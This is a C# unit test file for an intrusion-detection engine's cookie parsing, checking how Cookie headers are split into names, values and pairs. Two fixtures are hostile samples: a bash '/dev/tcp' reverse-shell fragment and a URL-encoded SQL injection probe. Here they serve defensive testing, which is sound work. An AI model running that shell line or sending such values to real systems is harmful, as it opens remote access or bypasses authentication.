using EastWestIds.Signatures.Buffers;
using EastWestIds.Signatures.Decoding;
using EastWestIds.Signatures.Keywords;
using static EastWestIds.Signatures.Tests.Buffers.BufferAssert;

namespace EastWestIds.Signatures.Tests.Buffers;

/// <summary><c>http.cookie_value</c> / <c>http.cookie_name</c> / <c>http.cookie_pair</c>: one entry per cookie, split as RFC 6265 §5.4 reads a Cookie header.</summary>
public sealed class RequestBuffersCookiesTests
{
    [Fact]
    public void Pairs_SplitOnSemicolonsAndTheFirstEquals_SpacesAroundDropped()
    {
        RequestBuffers b = For(FakeRequestView.Get("/").WithHeader("Cookie", "a=1; b = 2 ;c=x=y;\td=\t\"q v\""));

        Assert.Equal(["a", "b", "c", "d"], Values(b, InspectionBuffer.HttpCookieName));
        Assert.Equal(["1", "2", "x=y", "\"q v\""], Values(b, InspectionBuffer.HttpCookieValue));
        Assert.Equal(["a=1", "b = 2", "c=x=y", "d=\t\"q v\""], Values(b, InspectionBuffer.HttpCookiePair));
    }

    [Fact]
    public void PairWithoutEquals_IsAValueWithAnEmptyName()
    {
        RequestBuffers b = For(FakeRequestView.Get("/").WithHeader("Cookie", "exec 5<>/dev/tcp/10.0.0.1/80"));

        Assert.Equal([""], Values(b, InspectionBuffer.HttpCookieName));
        Assert.Equal(["exec 5<>/dev/tcp/10.0.0.1/80"], Values(b, InspectionBuffer.HttpCookieValue));
        Assert.Equal(["exec 5<>/dev/tcp/10.0.0.1/80"], Values(b, InspectionBuffer.HttpCookiePair));
    }

    [Fact]
    public void EmptyNamesAndValues_KeptInStep_EmptyPairsSkipped()
    {
        RequestBuffers b = For(FakeRequestView.Get("/").WithHeader("Cookie", ";; a=; =v ; ;b"));

        Assert.Equal(["a", "", ""], Values(b, InspectionBuffer.HttpCookieName));
        Assert.Equal(["", "v", "b"], Values(b, InspectionBuffer.HttpCookieValue));
        Assert.Equal(["a=", "=v", "b"], Values(b, InspectionBuffer.HttpCookiePair));
    }

    [Fact]
    public void SeveralCookieHeaders_AreOneJar()
    {
        RequestBuffers b = For(FakeRequestView.Get("/").WithHeader("cookie", "a=1").WithHeader("User-Agent", "x").WithHeader("COOKIE", "b=2; c=3"));

        Assert.Equal(["a", "b", "c"], Values(b, InspectionBuffer.HttpCookieName));
        Assert.Equal(["1", "2", "3"], Values(b, InspectionBuffer.HttpCookieValue));
        Assert.Equal(["a=1", "b=2", "c=3"], Values(b, InspectionBuffer.HttpCookiePair));
    }

    [Fact]
    public void NotDecoded_AsHttpCookie()
    {
        RequestBuffers b = For(FakeRequestView.Get("/").WithHeader("Cookie", "q=%27+or+1%3D1"));

        Assert.Equal(["%27+or+1%3D1"], Values(b, InspectionBuffer.HttpCookieValue));
    }

    [Fact]
    public void NoCookieHeader_NoEntries()
    {
        RequestBuffers b = For(FakeRequestView.Get("/").WithHeader("Cookies", "a=1"));

        Assert.Equal(0, b.Count(InspectionBuffer.HttpCookieValue));
        Assert.Equal(0, b.Count(InspectionBuffer.HttpCookieName));
        Assert.Equal(0, b.Count(InspectionBuffer.HttpCookiePair));
    }

    [Fact]
    public void MoreCookiesThanTheArgumentBudget_KeepTheFirstAndTheNewest_AndFlagged()
    {
        RequestBuffers b = For(FakeRequestView.Get("/").WithHeader("Cookie", "a=1; b=2; c=3; d=4; e=5"), RequestBufferLimits.Default with { MaxArgs = 4 });

        Assert.Equal(["1", "2", "3", "5"], Values(b, InspectionBuffer.HttpCookieValue));
        Assert.Equal(["a", "b", "c", "e"], Values(b, InspectionBuffer.HttpCookieName));
        Assert.Equal(["a=1", "b=2", "c=3", "e=5"], Values(b, InspectionBuffer.HttpCookiePair));
        Assert.True(b.Anomalies.HasFlag(DecodingAnomalies.TooManyArgs));
    }

    [Fact]
    public void ReusedForTheNextRequest_SplitsItsOwnHeader()
    {
        var buffers = new RequestBuffers(RequestBufferLimits.Default);
        buffers.Reset(FakeRequestView.Get("/").WithHeader("Cookie", "long_first_name=value-of-the-first-request"));
        Assert.Equal(["value-of-the-first-request"], Values(buffers, InspectionBuffer.HttpCookieValue));

        buffers.Reset(FakeRequestView.Get("/").WithHeader("Cookie", "b=2").WithHeader("Cookie", "c=3"));
        Assert.Equal(["2", "3"], Values(buffers, InspectionBuffer.HttpCookieValue));

        buffers.Reset(FakeRequestView.Get("/").WithHeader("Cookie", "d=4"));
        Assert.Equal(["4"], Values(buffers, InspectionBuffer.HttpCookieValue));
    }
}
